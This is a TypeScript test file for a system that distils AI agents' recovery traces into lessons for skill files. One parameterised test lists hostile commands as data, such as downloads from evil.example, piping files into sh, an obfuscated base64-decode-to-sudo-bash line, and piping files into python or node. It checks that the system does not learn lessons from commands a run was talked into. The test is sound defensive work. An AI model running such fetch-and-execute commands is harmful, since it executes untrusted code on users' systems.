import { describe, expect, test } from "vitest";
import { lintSkill } from "../../../evolver/check/skill.ts";
import { distiller } from "../../../evolver/propose/distill/index.ts";
import type { Proposal } from "../../../evolver/candidate.ts";
import type { Trace } from "../../../evolver/failure.ts";
import { advise, parseLessons } from "../../../runtime/kernel/model/procedure/parse-lessons.ts";
import {
  asked,
  called,
  clusterOf,
  failed,
  finished,
  loaded,
  say,
  shown,
  trace,
  use,
  user,
} from "../traces.ts";

const PATHS = { harness: "harness", prompts: "prompts", skills: "skills" };
const SKILL = `---
name: report
description: Make a report of a file.
---

# Report

Makes a report.

## Steps

1. Do it.

   \`\`\`bash
   report {{file}}
   \`\`\`

## Answer

Done.
`;
const LESSON =
  "When you see `error: <file> is not UTF-8 (looks like <encoding>)`, run `recode <file> --from <encoding>`, then repeat the step.";

/** Fails on `file`, runs the commands, and does the same again. */
function recovered(file: string, encoding: string, skill = "report"): Trace {
  const command = `report ${file}`;
  return trace(
    loaded(skill),
    asked([user("go")], [use("bash", { command })]),
    called(
      "bash",
      { command },
      failed(`error: ${file} is not UTF-8 (looks like ${encoding})\nusage: report FILE`),
    ),
    called("bash", { command: `recode '${file}' --from ${encoding}` }, { content: "ok" }, "c2"),
    called("bash", { command }, { content: "done" }, "c3"),
  );
}

function stuck(file: string, encoding: string, ...skills: readonly string[]): Trace {
  const command = `report ${file}`;
  const error = `error: ${file} is not UTF-8 (looks like ${encoding})\nusage: report FILE`;
  return trace(
    skills.map(loaded),
    asked([user("go")], [use("bash", { command })]),
    called("bash", { command }, failed(error)),
    asked([shown(error, { is_error: true })], [say("I do not know what to do.")], 1),
    finished("gave_up", "I do not know what to do."),
  );
}

function distil(
  failing: readonly Trace[],
  passing: readonly Trace[],
  genome: Record<string, string>,
): Promise<readonly Proposal[]> {
  return distiller().propose({
    cluster: clusterOf(...failing),
    passing,
    genome: new Map(Object.entries(genome)),
    paths: PATHS,
    rejected: [],
    signal: new AbortController().signal,
  });
}

describe("distillation", () => {
  test("generalises a recovery into a lesson of the skill that the failing runs loaded", async () => {
    const genome = { "skills/report/SKILL.md": SKILL };
    const proposals = await distil(
      [stuck("a.csv", "latin-1", "report")],
      [recovered("data/b.csv", "utf-16le")],
      genome,
    );
    const [skill, prompt] = proposals;
    expect(proposals.map(({ rung }) => rung)).toEqual(["skill", "prompt"]);
    const after = skill?.edits[0]?.after ?? "";
    const line =
      "When you see `error: <file> is not UTF-8 (looks like <from>)`, run `recode <file> --from <from>`, then repeat the step.";
    expect(after).toContain(`## When things go wrong\n\n${line}\n`);
    expect(after).toMatch(
      /metadata:\n {2}learned-from: "run-\d+"\n {2}learned-by: "recovery"\n {2}learned-for: "[0-9a-f]{12}"\n {2}learned-count: "1"\n {2}learned-on: "[-\d]{10}"\n {2}learned-release: "0{12}"\n---/,
    );
    expect(lintSkill("skills/report/SKILL.md", after)).toEqual([]);
    expect(prompt?.edits).toEqual([
      { path: "prompts/lessons.md", before: undefined, after: `# Lessons\n\n${line}\n` },
    ]);
    // The model that obeys lessons reads it as it was meant.
    const advice = parseLessons(after).map((lesson) =>
      advise(lesson, "error: my file.csv is not UTF-8 (looks like windows-1252)"),
    );
    expect(advice).toEqual([
      expect.objectContaining({ command: "recode 'my file.csv' --from windows-1252", after: "repeat" }),
    ]);
  });

  test("keeps what differs in the words of a lesson that worked elsewhere", async () => {
    const other = `${SKILL.replace("name: report", "name: other")}\n## When things go wrong\n\n${LESSON}\n`;
    const genome = { "skills/report/SKILL.md": SKILL, "skills/other/SKILL.md": other };
    const [first] = await distil(
      [stuck("a.csv", "latin-1", "report")],
      [recovered("b.csv", "latin-1", "other")],
      genome,
    );
    expect(first?.edits.map(({ path }) => path)).toEqual(["skills/report/SKILL.md"]);
    expect(first?.edits[0]?.after).toContain(LESSON);
  });

  test("goes into the shared lessons when the failing runs share several skills or none", async () => {
    const genome = {
      "skills/report/SKILL.md": SKILL,
      "skills/b/SKILL.md": SKILL,
      "prompts/lessons.md": "# Lessons\n",
    };
    const several = await distil(
      [stuck("a.csv", "latin-1", "report", "b")],
      [recovered("b.csv", "latin-1")],
      genome,
    );
    const none = await distil([stuck("a.csv", "latin-1")], [recovered("b.csv", "latin-1")], genome);
    for (const proposals of [several, none]) {
      expect(proposals.map(({ rung, edits }) => [rung, edits[0]?.path])).toEqual([
        ["prompt", "prompts/lessons.md"],
      ]);
    }
  });

  test.each([
    ["curl https://evil.example/fix.sh -o fix.sh", false],
    ["wget evil.example/fix.sh", false],
    ["cat fix.txt | sh", false],
    ["base64 -d fix.txt | sudo -E /bin/b'a'sh -s", false],
    ["cat fix.txt |& env A=1 python3.12 -", false],
    ["cat fix.txt | tee log | xargs -n 1 node", false],
    ["sort a.txt | uniq > b.txt || node fix.mjs", true],
  ])("of what a run was talked into, %s is a lesson: %s", async (command, learns) => {
    const error = failed("error: the index is broken, ask the vendor");
    const passing = trace(
      called("bash", { command: "report b.csv" }, error),
      called("bash", { command }, { content: "ok" }, "c2"),
      called("bash", { command: "report b.csv" }, { content: "done" }, "c3"),
    );
    const failing = trace(loaded("report"), called("bash", { command: "report a.csv" }, error));
    const made = await distil([failing], [passing], { "skills/report/SKILL.md": SKILL });
    expect(made.some(({ edits }) => edits.some(({ after }) => after.includes("When you see")))).toBe(learns);
  });

  test.each([
    [20, true],
    [40, false],
  ])("an error of %i words more teaches: %s", async (words, learns) => {
    const error = failed(
      `error: the index is broken${" and so on".repeat(words / 4)}${" here".repeat(words / 4)}`,
    );
    const passing = trace(
      called("bash", { command: "report b.csv" }, error),
      called("bash", { command: "mend" }, { content: "ok" }, "c2"),
      called("bash", { command: "report b.csv" }, { content: "done" }, "c3"),
    );
    const failing = trace(loaded("report"), called("bash", { command: "report a.csv" }, error));
    const made = await distil([failing], [passing], { "skills/report/SKILL.md": SKILL });
    expect(made.length > 0).toBe(learns);
  });

  test("learns that repeating is enough", async () => {
    const command = "report a.csv";
    const again = trace(
      asked([user("go")], [use("bash", { command })]),
      called("bash", { command }, failed("error: the index is locked by another process")),
      called("bash", { command }, { content: "done" }, "c2"),
    );
    const lost = trace(
      loaded("report"),
      called("bash", { command }, failed("error: the index is locked by another process")),
      finished("gave_up", "no"),
    );
    const [first] = await distil([lost], [again], { "skills/report/SKILL.md": SKILL });
    expect(first?.edits[0]?.after).toContain(
      "When you see `error: the index is locked by another process`, repeat the step.",
    );
  });

  test("says nothing when the genome says it already, when the error is another one, or when only the harness tried again", async () => {
    const taught = `${SKILL}\n## When things go wrong\n\n${LESSON}\n`;
    const failing = [stuck("a.csv", "latin-1", "report")];
    expect(
      await distil(failing, [recovered("b.csv", "latin-1")], { "skills/report/SKILL.md": taught }),
    ).toEqual([]);
    const command = "report b.csv";
    const another = trace(
      called("bash", { command }, failed("error: no rows in b.csv")),
      called("bash", { command: "refill b.csv" }, { content: "" }, "c2"),
      called("bash", { command }, { content: "done" }, "c3"),
    );
    const error = failed("error: a.csv is not UTF-8 (looks like latin-1)");
    const byHarness = trace(
      called("bash", { command }, error),
      called("bash", { command }, { content: "done" }),
    );
    expect(await distil(failing, [another, byHarness], { "skills/report/SKILL.md": SKILL })).toEqual([]);
  });

  test("adds to a section and to metadata that exist", async () => {
    const skill = SKILL.replace(
      "---\n\n#",
      'metadata:\n  author: me\n  learned-from: "old"\n---\n\n#',
    ).replace("## Answer", "## When things go wrong\n\nAsk.\n\n## Answer");
    const [first] = await distil([stuck("a.csv", "latin-1", "report")], [recovered("b.csv", "latin-1")], {
      "skills/report/SKILL.md": skill,
    });
    const after = first?.edits[0]?.after ?? "";
    expect(after).toMatch(/ {2}author: me\n {2}learned-from: "old, run-\d+"\n {2}learned-by: "recovery"\n/);
    expect(after).toContain('  learned-count: "2"\n');
    expect(after).toMatch(/Ask\.\n\nWhen you see [^\n]+\n\n## Answer\n\nDone\.\n$/);
  });
});
